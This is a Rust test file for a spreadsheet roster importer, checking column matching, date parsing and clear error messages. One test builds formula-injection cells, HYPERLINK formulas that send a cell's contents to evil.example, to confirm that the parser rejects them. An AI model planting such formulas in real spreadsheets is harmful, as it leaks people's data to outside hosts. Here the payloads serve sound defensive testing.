//! Lists as people and spreadsheets write them, and the complaints about those that cannot be read.

use super::*;

fn read_as(text: &str, reading: Reading) -> Result<Sheet, Unfit> {
    read(text.as_bytes(), &TimeZone::get("Europe/London").unwrap(), &reading)
}

fn read_text(text: &str) -> Result<Sheet, Vec<AboutLine>> {
    read_as(text, Reading::default()).map_err(|unfit| match unfit {
        Unfit::Lines(bad) => bad,
        Unfit::DateOrder(unclear) => panic!("{unclear:?}"),
    })
}

#[test]
fn columns_come_in_any_order_under_the_names_that_people_give_them() {
    let plain = "name,email,matrix_id,role,cohort,organisation,valid_until,course,headline\n\
                 Sam Reed,Sam@mail.example,@sam:example.org,student,2026,,2027-06-30,\"History, second year\",\n";
    let sheet = read_text(plain).unwrap();
    let others = [
        format!("\u{feff}{plain}"),
        plain.replace('\n', "\r\n"),
        format!("{plain}\n,,,,,,,,\n"),
        "Role;Full Name;E-Mail;Matrix ID;Valid until;Course;Year Group\n\
         Student;Sam  Reed; sam@mail.example ;@sam:Example.org;2027-06-30;History, second year;2026"
            .to_owned(),
        "address\tROLE\tMXID\tname\tends\tsubject\tcohort\n\
         sam@mail.example\tstudent\t@sam:example.org\tSam Reed\t2027-06-30\tHistory, second year\t2026\n"
            .to_owned(),
    ];
    for other in others {
        assert_eq!(read_text(&other).unwrap(), sheet, "{other}");
    }
    let [sam] = &sheet.entries[..] else { panic!("one is listed") };
    assert_eq!((sam.role, sam.cohort.as_deref()), (Role::Student, Some("2026")));
    assert_eq!(sam.details[&Field::Course], "History, second year");
    assert_eq!(sheet.lines, [2]);
}

#[test]
fn a_role_holds_through_its_last_day_in_the_services_zone() {
    let until = |day: &str| {
        let sheet = read_text(&format!("name,email,role,valid_until\nSam,sam@mail.example,student,{day}\n")).unwrap();
        sheet.entries[0].until.unwrap().as_millis()
    };
    let moment = |text: &str| text.parse::<jiff::Timestamp>().unwrap().as_millisecond();
    assert_eq!(until("2027-06-30"), moment("2027-06-30T23:00:00Z"), "summer time");
    assert_eq!(until("2026-12-31"), moment("2027-01-01T00:00:00Z"));
}

#[test]
fn each_bad_line_is_named_with_what_is_wrong_and_what_would_be_right() {
    let head = "name,email,matrix_id,role,organisation,valid_until\n";
    let bad = [
        ("Sam,sam,,student,,", "email: not an email address: expected one such as \"sam@example.org\", found \"sam\""),
        (
            "Sam,,sam:example.org,student,,",
            "matrix_id: not a full Matrix id: expected one such as \"@sam:example.org\", found \"sam:example.org\"",
        ),
        (
            "Sam,sam@mail.example,,boss,,",
            "role: expected student, alumnus, employer, staff, intern or administrator, found \"boss\"",
        ),
        (
            "Sam,sam@mail.example,,,,",
            "role: expected student, alumnus, employer, staff, intern or administrator, found nothing",
        ),
        (",sam@mail.example,,student,,", "name: expected a name, found nothing"),
        (
            "S\u{0430}m,sam@mail.example,,student,,",
            "name: the name \"S\u{0430}m\" mixes alphabets so that it can be read as another name; write each word in \
             one alphabet",
        ),
        (
            "Sam,=sam@mail.example,,student,,",
            "email: \"=sam@mail.example\" is what spreadsheets take for a formula; expected an address that begins with \
             a letter or a digit",
        ),
        (
            "=1+1,sam@mail.example,,student,,",
            "name: expected a name, found \"=1+1\", which spreadsheets take for a formula; write the name without the \
             sign at its beginning",
        ),
        (
            "Sam,sam@mail.example,,student,,31/06/2027",
            "valid_until: expected a date such as 2027-06-30, found \"31/06/2027\"",
        ),
        (
            "Sam,sam@mail.example,,student,,2027-06-30T10:00",
            "valid_until: expected a date such as 2027-06-30, found \"2027-06-30T10:00\"",
        ),
        (
            "Sam,sam@mail.example,,student,,2027-02-30",
            "valid_until: expected a date such as 2027-06-30, found \"2027-02-30\"",
        ),
        (
            "Sam,sam@mail.example,,student",
            "4 values, where the first line names 6 columns; a value with the separator in it stands in \"quotes\"",
        ),
        (
            "Sam,sam@mail.example,,student,Reed, Sons and Co,",
            "7 values, where the first line names 6 columns; a value with the separator in it stands in \"quotes\"",
        ),
    ];
    let file = bad.iter().fold(head.to_owned(), |file, (line, _)| format!("{file}{line}\n"));
    let named = read_text(&file).unwrap_err();
    let expected = bad.iter().zip(2..).map(|((_, what), line)| AboutLine { line, what: (*what).to_owned() });
    assert_eq!(named, expected.collect::<Vec<_>>());
    let long = format!("{head}\"Sam\",sam@mail.example,,student,{},\n", "x".repeat(201));
    assert_eq!(read_text(&long).unwrap_err()[0].what, "organisation: expected at most 200 characters, found 201");
}

#[test]
fn no_name_is_a_formula_to_a_spreadsheet() {
    for sign in ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u{a0}+", "\u{200b}@", "\r\n=", "−", "﹣"]
    {
        let cell = format!("{sign}HYPERLINK(\"\"http://evil.example/?c=\"\"&D2)");
        let named =
            read_text(&format!("name,email,role\nNoor,n@mail.example,student\n\"{cell}\",s@mail.example,student\n"));
        let [AboutLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
        assert!(what.contains("which spreadsheets take for a formula"), "{what}");
    }
    for name in ["Anne-Marie", "Jean-", "O’Brien", "'Afa", "Sam (=Pat)"] {
        let sheet = read_text(&format!("name,email,role\n{name},s@mail.example,student\n")).unwrap();
        assert_eq!(sheet.entries[0].name.as_str(), name);
    }
}

#[test]
fn a_line_that_stands_below_a_value_of_several_lines_has_its_own_number() {
    let file = "name,email,role\n\"Sam\nReed\",sam@mail.example,student\nNoor,noor@mail.example,boss\n";
    assert_eq!(read_text(file).unwrap_err()[0].line, 4);
}

#[test]
fn a_first_line_that_leaves_something_open_is_named() {
    for (head, what) in [
        ("", "expected the names of the columns, found an empty file"),
        ("name,role", "there is neither a column email nor matrix_id; people are found by one of them"),
        ("email,role", "there is no column name; every person has one"),
        ("name,email", "there is no column role; every person has one"),
        (
            "name,email,role,e-mail",
            "column 2 \"email\" and column 4 \"e-mail\" are both the email; expected one of each",
        ),
        (
            "name,email,role,valid_untill",
            &format!(
                "there is no column \"valid_untill\"; did you mean valid_until?; expected some of {}",
                columns::COLUMNS
            ),
        ),
        ("name,email,role,phone", &format!("there is no column \"phone\"; expected some of {}", columns::COLUMNS)),
    ] {
        let named = read_text(&format!("{head}\n")).or_else(|_| read_text(head)).unwrap_err();
        assert_eq!(named, [bad_line(1, what)], "{head}");
    }
}

#[test]
fn a_column_that_was_renamed_is_suggested() {
    for (name, meant) in [
        ("Student name", "name"),
        ("Preferred Name", "name"),
        ("surname", "name"),
        ("E-Mail (work)", "email"),
        ("student_email", "email"),
        ("emial", "email"),
        ("Matrix-ID of the student", "matrix_id"),
        ("Rôle", "role"),
        ("Role at service", "role"),
        ("Valid until (date)", "valid_until"),
        ("Expiry date", "valid_until"),
        ("Organisaton", "organisation"),
        ("Course title", "course"),
        ("Cohort year", "cohort"),
    ] {
        let bad = read_text(&format!("name,email,role,{name}\n")).unwrap_err();
        let expected = format!("there is no column \"{name}\"; did you mean {meant}?");
        assert!(bad.iter().any(|bad| bad.line == 1 && bad.what.starts_with(&expected)), "{bad:?}");
    }
    for name in ["phone", "Photo", "Nationality", "Date of birth", "Gender", "ID", "Postcode", "Faculty"] {
        let bad = read_text(&format!("name,email,role,{name}\n")).unwrap_err();
        assert!(!bad[0].what.contains("did you mean"), "{bad:?}");
    }
}

#[test]
fn what_is_taken_otherwise_than_it_is_written_is_said() {
    let file = format!(
        "name,email,matrix_id,role,valid_until,course\n\
         Sam,s@m.example,@Sam:example.org,student,46568,\"History\r\nand art\"\n\
         {},n@m.example,@noor:Example.org,student,2027-06-30,Physics\n\
         \"Ivy\nPoe\",i@m.example,,student,,\n",
        "x".repeat(81)
    );
    let sheet = read_text(&file).unwrap();
    let notes: Vec<String> = sheet.notes.iter().map(ToString::to_string).collect();
    let ends = |text| {
        format!("a line ends within \"{text}\"; if that was not meant, look for a quotation mark that is not closed")
    };
    let expected = [
        "line 2: valid_until: 46568 is taken for 2027-06-30, as spreadsheets count days".to_owned(),
        "line 2: matrix_id: @Sam:example.org is taken as @sam:example.org; an old account whose id has capital letters \
         cannot be listed, and comes in by a code"
            .to_owned(),
        format!("line 2: course: {}", ends("History and art")),
        format!(
            "line 4: name: 81 characters are more than fit in a name, so it is taken as \"{}\"",
            "x".repeat(80)
        ),
        format!("line 5: name: {}", ends("Ivy Poe")),
    ];
    assert_eq!(notes, expected);
}

#[test]
fn a_list_reads_the_same_however_a_spreadsheet_wrote_it() {
    let sheet = read_text("name,email,role,valid_until\nSam Reed,sam@mail.example,student,2027-06-30\n").unwrap();
    for (file, line) in [
        ("sep=;\r\nName;E-Mail;Role;Valid until\r\nSam Reed;sam@mail.example;Student;2027-06-30\r\n", 3),
        ("\"sep=;\"\nName;E-Mail;Role;Valid until\nSam Reed;sam@mail.example;Student;30/06/2027\n", 3),
        ("sep=\t\nname\temail\trole\tends\nSam Reed\tsam@mail.example\tstudent\t30.6.2027\n", 3),
        ("name|email|role|until\nSam Reed|sam@mail.example|student|2027-06-30 00:00:00\n", 2),
        (
            "\r\n;;;;\r\nname;email;role;until;;\r\nSam Reed;sam@mail.example;student;30 June 2027;;\r\n;;;;;\r\n \u{a0};;;;;\r\n",
            4,
        ),
        ("name,email,role,until,,\nSam Reed,sam@mail.example,student,2027-06-30,\n,,,,,,,\n", 2),
        (",name,email,,role,until\n,Sam Reed,sam@mail.example,,student,2027-06-30\n", 2),
        ("name\remail\r", 0),
        ("\"Name (full name)\",\"E mail\",\"ROLE\",\"End, date\"\r\n", 0),
        (
            "\"name\",\"email\",\"role\",\"end date\"\r\"Sam\nReed\",\"sam@mail.example\",\"student\",\"30-Jun-2027\"\r",
            2,
        ),
        ("name,email,role,until\n\"Sam\r\nReed\",sam@mail.example,\"stu\u{200b}dent\",2027-06-30", 2),
    ] {
        match read_text(file) {
            Ok(read) => assert_eq!((&read.entries, &read.lines[..]), (&sheet.entries, &[line][..]), "{file:?}"),
            Err(bad) => assert_eq!(line, 0, "{file:?}: {bad:?}"),
        }
    }
}

#[test]
fn which_of_two_days_a_date_is_is_asked_for_once_and_never_guessed() {
    let file =
        "name,email,role,valid_until\nSam,s@mail.example,student,01/02/2027\nNoor,n@mail.example,student,30/06/2027\n";
    let unclear = "valid_until: 01/02/2027 is 2027-02-01 or 2027-01-02";
    assert_eq!(read_as(file, Reading::default()), Err(Unfit::DateOrder(vec![bad_line(2, unclear)])));
    let until = |file: &str, order| {
        let sheet = read_as(file, Reading { dates: Some(order), ..Reading::default() });
        let last = |entry: &Entry| {
            crate::roster::shown::last_day(entry.until.unwrap(), &TimeZone::get("Europe/London").unwrap())
        };
        sheet.map(|sheet| sheet.entries.iter().map(last).collect::<Vec<_>>())
    };
    assert_eq!(until(file, Order::DayFirst).unwrap(), ["2027-02-01", "2027-06-30"]);
    let wrong = bad_line(3, "valid_until: month-first: expected a date such as 2027-06-30, found \"30/06/2027\"");
    assert_eq!(until(file, Order::MonthFirst), Err(Unfit::Lines(vec![wrong])));
    assert!(matches!(until(file, Order::YearFirst), Err(Unfit::Lines(bad)) if bad.len() == 2));
    let mixed = read_text(&file.replace("01/02/2027", "06/30/2027")).unwrap_err();
    assert_eq!(mixed.iter().map(|bad| bad.line).collect::<Vec<_>>(), [2, 3]);
    assert!(
        mixed[0].what.contains("06/30/2027 is month-first, and other dates of the file are in the other order"),
        "{mixed:?}"
    );
    // Any other mistake is told first, so that nobody is asked for an order in vain.
    assert_eq!(read_text(&file.replace("Noor,", ",")).unwrap_err()[0].line, 3);
    let endless = read_text(&file.replace("01/02/2027", "31/12/9999")).unwrap();
    assert_eq!(endless.entries[0].until, None);
}

#[test]
fn nobody_is_swallowed_by_a_quotation_mark_and_nothing_stands_where_it_is_not_read() {
    for (file, line, what) in [
        (
            "sep=,\nname,email,role,course\nSam,s@m.example,student,\"History\nNan,n@m.example,student,\n",
            3,
            "none closes it",
        ),
        (
            "name,email,role,\nSam,s@m.example,student,\nNan,n@m.example,student,2027-06-30\n",
            3,
            "column 4, which has no name",
        ),
        ("name,email,role\nSam,s@m.example,student,2027\n", 2, "4 values, where the first line names 3 columns"),
        ("name,email,role\nRen\u{fffd}e,s@m.example,student\n", 2, "stands where a letter was lost before"),
    ] {
        let bad = read_text(file).unwrap_err();
        assert!(bad.len() == 1 && bad[0].line == line && bad[0].what.contains(what), "{bad:?}");
    }
}

fn bad_line(line: u64, what: &str) -> AboutLine {
    AboutLine { line, what: what.to_owned() }
}
